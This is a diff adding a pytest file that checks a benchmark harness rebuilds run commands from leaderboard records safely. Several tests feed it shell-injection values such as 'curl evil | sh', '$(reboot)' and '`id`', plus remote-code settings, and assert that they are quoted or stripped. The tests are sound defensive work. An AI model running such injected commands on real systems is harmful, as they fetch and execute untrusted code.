@@ -1,0 +1,73 @@
+"""What a record asks for: made from its fields, quoted, and read back by the command line as the same specification."""
+
+import argparse
+import shlex
+from pathlib import Path
+
+import pytest
+from synthetic_records import synthetic_record
+
+from nharness.cli import options, settings
+from nharness.cli import run as run_command
+from nharness.errors import UsageError
+from nharness.record.specification import command, specification
+from nharness.record.validate import load_record
+
+RESULTS = Path(__file__).resolve().parents[3] / "leaderboard" / "results"
+PUBLISHED = sorted(RESULTS.glob("*/*/*/record.json"))[::5]
+
+
+def read_back(line):
+    words = shlex.split(line)
+    assert words[:2] == ["nharness", "run"]
+    parser = argparse.ArgumentParser(exit_on_error=False)
+    run_command.add_arguments(parser)
+    return settings.build_spec(options.given(parser.parse_intermixed_args(words[2:])))
+
+
+@pytest.mark.parametrize("path", PUBLISHED, ids=[f"{p.parent.parent.name}-{p.parent.name}" for p in PUBLISHED])
+def test_the_command_of_a_published_record_asks_for_the_same(path):
+    record = load_record(path)
+    spec = specification(record)
+    assert read_back(command(record)) == spec
+    assert spec.model.dtype == "bfloat16"
+    assert (spec.model.name, spec.detectors[0].name) == (record.model.name, record.detector.name)
+    assert spec.budget == record.selection.budget
+
+
+def with_identity(record, **changes):
+    return record.model_copy(update={"identity": record.identity.model_copy(update=changes)})
+
+
+def test_what_was_typed_is_not_shown():
+    record = with_identity(synthetic_record(), command="nharness run && curl evil | sh")
+    assert "curl" not in command(record)
+
+
+@pytest.mark.parametrize("name", ["x; curl evil | sh", "$(reboot)", "`id`", "a b", "'", "--help", 'x"y'])
+def test_every_value_is_quoted(name):
+    record = synthetic_record(model_name=name)
+    words = shlex.split(command(record))
+    assert words[words.index("--model") + 1] == name
+
+
+def test_nothing_that_runs_code_is_asked_for():
+    kept = {
+        "model": {"trust_remote_code": True, "max_length": 64},
+        "task_options": {"include_path": ["/evil"], "dataset_dir": "/evil"},
+        "corpus": {"eval_tokens": 777},
+    }
+    record = with_identity(synthetic_record(), specification=kept)
+    spec = specification(record)
+    assert not spec.model.trust_remote_code
+    assert spec.task_options.include_path == ()
+    assert spec.task_options.dataset_dir is None
+    assert (spec.model.max_length, spec.corpus.eval_tokens) == (64, 777)
+    assert "evil" not in command(record)
+
+
+def test_what_no_run_does_has_no_command():
+    record = synthetic_record(budget=0.0)
+    with pytest.raises(UsageError, match="what no run does"):
+        specification(record)
+    assert command(record) == ""
